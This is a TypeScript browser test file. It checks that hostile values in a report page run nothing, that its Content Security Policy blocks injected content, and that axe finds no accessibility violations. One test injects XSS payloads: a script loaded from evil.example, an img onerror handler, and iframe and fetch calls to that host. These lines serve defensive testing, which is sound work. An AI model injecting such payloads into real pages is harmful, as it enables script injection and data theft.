import axe from "axe-core";
import { afterAll, beforeAll, expect, test } from "vitest";
import { hostileValues } from "../certificates.fixture.ts";
import { desk, phone, type Reader, startReader } from "./browser.fixture.ts";
import { hostileMarkup, hostilePage } from "./hostile.fixture.ts";
import { grantedPage, refusedPage } from "./page.fixture.ts";

let reader: Reader;
beforeAll(async () => {
  reader = await startReader();
});
afterAll(() => reader[Symbol.asyncDispose]());

/** Opens and shows everything, as a reader might in the end. */
const openAll = `
  for (const one of document.querySelectorAll("details")) one.open = true;
  document.getElementById("show-more")?.click();
  for (const one of document.querySelectorAll("#more details")) one.open = true;
`;

const hostileTexts = [...hostileMarkup, ...hostileValues].map((value) => ({ value, title: JSON.stringify(value.slice(0, 40)) }));

test.each(hostileTexts)("a hostile value runs nothing, asks for nothing and adds nothing to the page: $title", async ({ value }) => {
  await using opened = await reader.open(hostilePage(value), { viewport: phone });
  const { page, trouble } = opened;
  await page.evaluate(openAll);
  await page.getByLabel("Search").fill(value.slice(0, 200));
  await page.keyboard.press("Escape");
  expect(await page.evaluate("window.ran")).toBeUndefined();
  const foreign = "img, iframe, link, base, object, embed, form:not(.filters, [method=dialog]), a:not([href^='#'])";
  expect(await page.locator(foreign).count()).toBe(0);
  expect(await page.locator("script").count()).toBe(3);
  expect(await page.evaluate("document.documentElement.scrollWidth")).toBe(phone.width);
  expect(trouble).toEqual([]);
});

test("were a value to get through, the policy would still let it do nothing", async () => {
  await using opened = await reader.open(refusedPage, { viewport: desk });
  const { page, trouble, sent } = opened;
  await page.evaluate(`
    const put = (name, fields) => document.body.append(Object.assign(document.createElement(name), fields));
    put("script", { textContent: "window.ran = 1" });
    put("script", { src: "https://evil.example/a.js" });
    put("img", { src: "https://evil.example/a.png" });
    put("iframe", { src: "https://evil.example/" });
    document.body.insertAdjacentHTML("beforeend", "<img src=x onerror='window.ran=1'><style>body{display:none}</style><p style='color:red' id=styled>");
    fetch("https://evil.example/").catch(() => {});
  `);
  await expect.poll(() => trouble.filter((one) => one.includes("Content Security Policy")).length).toBeGreaterThanOrEqual(6);
  expect(await page.evaluate("window.ran")).toBeUndefined();
  expect(await page.locator("#verdict").isVisible()).toBe(true);
  expect(sent).toEqual([]);
});

test.each([
  ["light", desk],
  ["dark", desk],
  ["light", phone],
  ["dark", phone],
] as const)("axe finds no violation: %s, %o", async (colorScheme, viewport) => {
  const bare = { ...refusedPage, observations: null, cases: null };
  for (const input of colorScheme === "light" ? [refusedPage, grantedPage] : [refusedPage, bare]) {
    await using opened = await reader.open(input, { viewport, colorScheme, bypassCSP: true });
    const { page } = opened;
    await page.evaluate(openAll);
    // What is far from the window is not laid out, and axe then takes what it never sees for overlapping.
    await page.addStyleTag({ content: ".entry { content-visibility: visible !important }" });
    await page.evaluate(axe.source);
    const violations = await page.evaluate<string[]>(
      "axe.run(document, { resultTypes: ['violations'] }).then(({ violations }) => violations.map((one) => one.id + ': ' + one.nodes.map((node) => node.html.slice(0, 150)).slice(0, 3).join(' | ')))",
    );
    expect(violations).toEqual([]);
  }
});
